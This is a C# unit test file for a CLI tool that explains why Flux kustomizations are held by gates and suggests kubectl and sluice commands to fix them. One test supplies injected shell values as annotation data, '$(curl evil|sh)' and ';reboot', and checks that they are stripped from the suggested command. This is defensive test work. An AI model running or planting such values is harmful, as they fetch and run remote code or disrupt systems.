using Sluice.Api.Gated;
using Sluice.Api.Gates;
using Sluice.Cli.Cluster;
using Sluice.Cli.Explaining;
using Sluice.Gating.Requirements;

namespace Sluice.Cli.Tests.Explaining;

/// <summary>What is recommended does what it is recommended for, and nothing else.</summary>
public sealed class NextStepsTests
{
    [Fact]
    public void Where_one_of_several_gates_is_misspelt_the_others_stay()
    {
        var item = Sample.Object(true, (GatedAnnotations.Gates, "flux-system/sre-approval, flux-system/maintenence"), (GatedAnnotations.HeldBy, "flux-system/maintenence (GateNotFound)"));
        Sample.Explain(item, Sample.Opened("sre-approval")).Next[0].Command.Should().Be("kubectl annotate --overwrite -n apps kustomization/my-app gating.toolkit.fluxcd.io/gates=flux-system/sre-approval,GATE");
    }

    [Theory]
    [InlineData(null, "sluice open maintenance -n flux-system --override --reason TEXT")]
    [InlineData("2m", "sluice open maintenance -n flux-system --override --reason TEXT")]
    [InlineData("3m", "sluice open maintenance -n flux-system --override --reason TEXT")]
    [InlineData("1h", "sluice open maintenance -n flux-system --reason TEXT")]
    public void A_gate_within_its_margin_stays_open_by_an_override_alone_where_a_request_does_not_last_beyond_the_end(string? window, string command)
    {
        var item = Sample.Object(true, (GatedAnnotations.Gates, "flux-system/maintenance"), (GatedAnnotations.HeldBy, "flux-system/maintenance (GateClosing)"));
        Sample.Explain(item, Sample.Closing with { Spec = new GateSpec { Window = window } }).Next[0].Command.Should().Be(command);
    }

    [Fact]
    public void What_somebody_wants_suspended_is_not_let_through_once()
    {
        var item = Sample.Object(true, (GatedAnnotations.Gates, "flux-system/sre-approval"), (GatedAnnotations.HeldBy, "flux-system/sre-approval (GateClosed)"), (GatedAnnotations.KeepSuspended, "migration"));
        var steps = Sample.Explain(item, Sample.Closed).Next;
        steps.Should().NotContain(step => step.Command.Contains("release-once"));
        steps[^1].Command.Should().Be("sluice resume kustomization/my-app -n apps");
    }

    [Fact]
    public void Of_what_is_being_deleted_nothing_has_to_be_done()
    {
        var item = Sample.Object(false, (GatedAnnotations.Gates, "flux-system/sre-approval"));
        item = item with { Metadata = item.Metadata with { DeletionTimestamp = Moment.Now } };
        var explanation = Sample.Explain(item, Sample.Closed);
        explanation.Notes.Should().Equal("It is being deleted, and is not held for that: Flux would leave behind what it has deployed.");
        explanation.Next.Should().BeEmpty();
    }

    [Fact]
    public void Where_nothing_is_closed_it_is_not_said_that_somebody_has_to_open_something()
    {
        var item = Sample.Object(true, (GatedAnnotations.Gates, "flux-system/bypass"), (GatedAnnotations.Require, "oneof"), (GatedAnnotations.HeldBy, "oneof (InvalidReference)"));
        Sample.Explain(item, Sample.Opened("bypass")).Notes[0].Should().Be("It stays held until somebody corrects that.");
    }

    [Fact]
    public void Nobody_has_to_correct_what_is_closed_or_what_the_reader_may_not_see()
    {
        var item = Sample.Object(true, (GatedAnnotations.Gates, "flux-system/sre-approval,flux-system/gone"), (GatedAnnotations.HeldBy, "flux-system/sre-approval (GateClosed), flux-system/gone (GateNotFound)"));
        Sample.Explain(item, Sample.Closed).Notes[0].Should().StartWith("It stays held until somebody opens what is closed");
        var lookups = new Dictionary<GateReference, GateLookup> { [new("flux-system", "sre-approval")] = new(null, "you may not read this gate") };
        new Explainer("sluice", Moment.Now).Explain(Sample.Kustomization, item, lookups).Notes.Should().NotContain(note => note.StartsWith("It stays held"));
        Sample.Explain(item, Sample.Closed with { Status = null }).Notes.Should().NotContain(note => note.StartsWith("It stays held"), "nobody has looked at it yet");
    }

    [Theory]
    [InlineData("gone,$(curl evil|sh)", "GATE")]
    [InlineData("flux-system/sre-approval,;reboot", "flux-system/sre-approval,GATE")]
    [InlineData("flux-system/sre-approval,", "flux-system/sre-approval,GATE")]
    [InlineData("gone, lost,flux-system/sre-approval", "flux-system/sre-approval,GATE")]
    [InlineData(" ", "GATE")]
    public void What_the_annotation_names_wrongly_is_one_step_that_keeps_what_can_be_read_and_exists(string gates, string command)
    {
        var item = Sample.Object(true, (GatedAnnotations.Gates, gates), (GatedAnnotations.HeldBy, "(empty) (InvalidReference)"));
        Sample.Explain(item, Sample.Opened("sre-approval")).Next.Where(step => step.Command.StartsWith("kubectl")).Should().ContainSingle()
            .Which.Command.Should().Be($"kubectl annotate --overwrite -n apps kustomization/my-app gating.toolkit.fluxcd.io/gates={command}");
    }

    [Fact]
    public void What_is_wrong_with_each_entry_is_said()
    {
        var item = Sample.Object(true, (GatedAnnotations.Gates, "gone,lost,,Not_A_Name"), (GatedAnnotations.HeldBy, "apps/gone (GateNotFound)"));
        Sample.Explain(item).Next[0].Effect.Should().Be(
            "name a gate that exists, or create 'apps/gone'; name a gate that exists, or create 'apps/lost'; name a gate where the list has none between its commas, or leave ',GATE' out; correct 'Not_A_Name'");
    }

    [Fact]
    public void What_the_spec_names_wrongly_is_edited_there()
    {
        var item = Sample.Object(true, (GatedAnnotations.HeldBy, "apps/gone (GateNotFound)")) with { Spec = new FluxObjectSpec { Suspend = true, Gates = [new NamedGate { Name = "gone" }] } };
        Sample.Explain(item).Next[0].Should().Be(new NextStep("kubectl edit -n apps kustomization/my-app", "in spec.gates, name a gate that exists, or create 'apps/gone'"));
        item = item with { Metadata = item.Metadata with { Annotations = new Dictionary<string, string> { [GatedAnnotations.Gates] = "lost", [GatedAnnotations.HeldBy] = "apps/gone (GateNotFound)" } } };
        Sample.Explain(item).Next.Select(step => step.Command).Should().StartWith(
            ["kubectl annotate --overwrite -n apps kustomization/my-app gating.toolkit.fluxcd.io/gates=GATE", "kubectl edit -n apps kustomization/my-app"]);
    }
}
